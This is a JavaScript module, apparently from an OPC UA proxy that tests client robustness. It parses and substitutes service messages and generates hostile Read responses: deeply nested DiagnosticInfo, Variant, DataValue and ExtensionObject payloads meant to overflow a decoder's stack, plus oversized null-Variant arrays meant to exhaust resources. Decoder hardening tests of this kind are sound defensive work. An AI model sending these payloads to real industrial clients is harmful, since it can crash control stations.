"use strict";
// The service messages the proxy recognises or makes up: the type ids of the requests a
// station sends (to know what a response answers), the Open response (for the channel's
// token), service faults, and Read responses built to hurt a decoder.

const { Reader, Writer } = require("./binary");

// Request type ids (DefaultBinary encodings, namespace 0); the response of each is its
// request's id plus 3.
const REQUEST_IDS = {
    OpenSecureChannel: 446,
    CloseSecureChannel: 452,
    CreateSession: 461,
    ActivateSession: 467,
    CloseSession: 473,
    Cancel: 479,
    GetEndpoints: 428,
    FindServers: 422,
    Browse: 527,
    BrowseNext: 533,
    TranslateBrowsePathsToNodeIds: 554,
    RegisterNodes: 560,
    UnregisterNodes: 566,
    Read: 631,
    HistoryRead: 664,
    Write: 673,
    Call: 712,
    CreateMonitoredItems: 751,
    ModifyMonitoredItems: 763,
    SetMonitoringMode: 769,
    SetTriggering: 775,
    DeleteMonitoredItems: 781,
    CreateSubscription: 787,
    ModifySubscription: 793,
    SetPublishingMode: 799,
    Publish: 826,
    Republish: 832,
    TransferSubscriptions: 841,
    DeleteSubscriptions: 847
};
const SERVICE_BY_REQUEST_ID = new Map(Object.entries(REQUEST_IDS).map(([name, id]) => [id, name]));
const SERVICE_FAULT = 397;
const OPEN_RESPONSE = 449;
const READ_RESPONSE = 634;

/** The service a request body belongs to, from the type id at its start. */
function serviceOfRequest(body) {
    const typeId = new Reader(body).nodeId();
    if (typeId.ns === 0 && typeof typeId.id === "number") {
        return SERVICE_BY_REQUEST_ID.get(typeId.id) ?? `Request${typeId.id}`;
    }
    return "Unknown";
}

/**
 * A FindServers request with the request header of `body` (any request): asked on an open
 * channel it needs no session, changes nothing on the server, and is answered with the
 * same request handle.
 */
function findServersInstead(body) {
    const r = new Reader(body);
    r.nodeId(); // the request's type id
    const start = r.offset;
    r.nodeId(); // authentication token
    r.skip(8 + 4 + 4); // timestamp, request handle, return diagnostics
    r.string(); // audit entry id
    r.skip(4); // timeout hint
    r.skipExtensionObject(); // additional header
    const header = body.subarray(start, r.offset);
    return new Writer()
        .numericNodeId(REQUEST_IDS.FindServers)
        .raw(header)
        .string(null) // endpoint URL
        .int32(-1) // locale ids
        .int32(-1) // server URIs
        .toBuffer();
}

/** Type id, request handle and service result at the start of a response body. */
function responseInfo(body) {
    const r = new Reader(body);
    const typeId = r.nodeId();
    r.skip(8); // timestamp
    return { typeId: typeId.ns === 0 ? typeId.id : undefined, requestHandle: r.uint32(), serviceResult: r.uint32() };
}

function skipResponseHeader(r) {
    r.skip(8 + 4 + 4); // timestamp, request handle, service result
    r.skipDiagnosticInfo();
    const strings = r.int32();
    for (let i = 0; i < strings; i++) r.byteString();
    r.skipExtensionObject();
}

/** The security token an OpenSecureChannel response grants, or null for any other body. */
function openResponseToken(body) {
    const r = new Reader(body);
    const typeId = r.nodeId();
    if (typeId.ns !== 0 || typeId.id !== OPEN_RESPONSE) return null;
    skipResponseHeader(r);
    r.uint32(); // server protocol version
    const channelId = r.uint32();
    const tokenId = r.uint32();
    r.skip(8); // created at
    return { channelId, tokenId, revisedLifetime: r.uint32() };
}

/**
 * A response header. serviceDiagnostics is the encoded DiagnosticInfo (one byte 0 when
 * there is none), so a caller can put a nested one there.
 */
function responseHeader(w, { requestHandle, serviceResult = 0, serviceDiagnostics = Buffer.from([0]) }) {
    w.dateTime();
    w.uint32(requestHandle);
    w.uint32(serviceResult);
    w.raw(serviceDiagnostics);
    w.int32(-1); // string table
    w.numericNodeId(0).uint8(0); // no additional header
    return w;
}

/** A ServiceFault: the response a server gives instead of the one asked for. */
function serviceFault(requestHandle, status) {
    const w = new Writer().numericNodeId(SERVICE_FAULT);
    return responseHeader(w, { requestHandle, serviceResult: status }).toBuffer();
}

// ---------------------------------------------------------------------------------------
// Read responses that are valid encodings but cost a decoder dearly. Built-in type ids of
// the Variant encoding byte: 22 ExtensionObject, 23 DataValue, 24 Variant, 25 DiagnosticInfo;
// 0x80 marks an array. A DataValue's mask bit 0x01 says a value follows; a DiagnosticInfo's
// mask bit 0x40 says an inner DiagnosticInfo follows.

const VARIANT_ARRAY = 0x80;
const TYPE_EXTENSION_OBJECT = 22;
const TYPE_DATA_VALUE = 23;
const TYPE_VARIANT = 24;
const TYPE_DIAGNOSTIC_INFO = 25;

function readResponse({ requestHandle, results, serviceDiagnostics, diagnosticInfos }) {
    const w = new Writer().numericNodeId(READ_RESPONSE);
    responseHeader(w, { requestHandle, serviceDiagnostics });
    w.int32(results.length);
    for (const r of results) w.raw(r);
    if (diagnosticInfos) {
        w.int32(diagnosticInfos.length);
        for (const d of diagnosticInfos) w.raw(d);
    } else {
        w.int32(-1);
    }
    return w.toBuffer();
}

/** A DiagnosticInfo with `depth` inner DiagnosticInfos inside each other. */
function nestedDiagnosticInfo(depth) {
    const b = Buffer.alloc(depth + 1, 0x40);
    b[depth] = 0;
    return b;
}

/** A Variant that is an array of one Variant, which is an array of one Variant, … `depth` times. */
function nestedVariantArrays(depth) {
    const level = Buffer.from([TYPE_VARIANT | VARIANT_ARRAY, 1, 0, 0, 0]);
    const b = Buffer.alloc(depth * level.length + 1);
    for (let i = 0; i < depth; i++) level.copy(b, i * level.length);
    b[depth * level.length] = 0; // the innermost element: a null Variant
    return b;
}

/** A Variant holding a DataValue holding a Variant holding a DataValue … `depth` times. */
function nestedDataValues(depth) {
    const b = Buffer.alloc(depth * 2 + 1);
    for (let i = 0; i < depth; i++) {
        b[2 * i] = TYPE_DATA_VALUE; // Variant: a DataValue
        b[2 * i + 1] = 0x01; // DataValue: a value follows
    }
    b[depth * 2] = 0; // the innermost value: a null Variant
    return b;
}

/**
 * An ExtensionObject whose binary body is an ExtensionObject, whose body is one too, …
 * `depth` times, under a structure type id of the server's namespace.
 */
function nestedExtensionObjects(depth) {
    const head = new Writer().uint8(1).uint8(1).uint16(5001).uint8(1).toBuffer(); // ns=1;i=5001, binary body
    let inner = new Writer().uint8(1).uint8(1).uint16(5001).uint8(0).toBuffer(); // innermost: no body
    const parts = [];
    // Built from the outside in: every level's length counts what is inside it.
    const lengths = [];
    let size = inner.length;
    for (let i = 0; i < depth; i++) {
        lengths.push(size);
        size += head.length + 4;
    }
    for (let i = depth - 1; i >= 0; i--) {
        const len = Buffer.allocUnsafe(4);
        len.writeInt32LE(lengths[i]);
        parts.push(head, len);
    }
    parts.push(inner);
    inner = Buffer.concat(parts);
    return inner;
}

const dataValueOf = (variant) => Buffer.concat([Buffer.from([0x01]), variant]);

/**
 * The shapes of deep nesting, each a Read response of one result (or a header) nested
 * `depth` levels: the decoder must stop at its own limit, not at the end of its stack.
 */
const NESTED_SHAPES = {
    "diagnostic-in-variant": (handle, depth) =>
        readResponse({
            requestHandle: handle,
            results: [dataValueOf(Buffer.concat([Buffer.from([TYPE_DIAGNOSTIC_INFO]), nestedDiagnosticInfo(depth)]))]
        }),
    "variant-arrays": (handle, depth) =>
        readResponse({ requestHandle: handle, results: [dataValueOf(nestedVariantArrays(depth))] }),
    "datavalue-in-variant": (handle, depth) =>
        readResponse({ requestHandle: handle, results: [dataValueOf(nestedDataValues(depth))] }),
    "extension-objects": (handle, depth) =>
        readResponse({
            requestHandle: handle,
            results: [
                dataValueOf(Buffer.concat([Buffer.from([TYPE_EXTENSION_OBJECT]), nestedExtensionObjects(Math.min(depth, 20000))]))
            ]
        }),
    "header-diagnostics": (handle, depth) =>
        readResponse({
            requestHandle: handle,
            serviceDiagnostics: nestedDiagnosticInfo(depth),
            results: [dataValueOf(Buffer.from([1, 0]))], // Boolean false
            diagnosticInfos: [nestedDiagnosticInfo(depth)]
        })
};

// The largest array a station accepts; every element a null Variant of one byte.
const NULL_ARRAY_LENGTH = 65536;
const nullVariantCache = new Map();

/**
 * A Read response as large as `maxBody` allows, whose results each hold an array of
 * NULL_ARRAY_LENGTH null Variants: a few MB on the wire, millions of values decoded. The
 * body is built once per size; the request handle is patched in.
 */
function nullVariantReadResponse(requestHandle, maxBody) {
    let cached = nullVariantCache.get(maxBody);
    if (!cached) {
        const result = Buffer.alloc(6 + NULL_ARRAY_LENGTH); // zero: the null Variants
        result[0] = 0x01; // DataValue with a value
        result[1] = TYPE_VARIANT | VARIANT_ARRAY;
        result.writeInt32LE(NULL_ARRAY_LENGTH, 2);
        const fixed = readResponse({ requestHandle: 0, results: [] }).length;
        const count = Math.max(1, Math.floor((maxBody - fixed) / result.length));
        cached = readResponse({ requestHandle: 0, results: new Array(count).fill(result) });
        nullVariantCache.clear();
        nullVariantCache.set(maxBody, cached);
    }
    const body = Buffer.from(cached);
    // Type id (4 bytes, four-byte form) and timestamp come before the handle.
    body.writeUInt32LE(requestHandle >>> 0, 4 + 8);
    return body;
}

module.exports = {
    NESTED_SHAPES,
    NULL_ARRAY_LENGTH,
    REQUEST_IDS,
    findServersInstead,
    nullVariantReadResponse,
    openResponseToken,
    responseInfo,
    serviceFault,
    serviceOfRequest
};
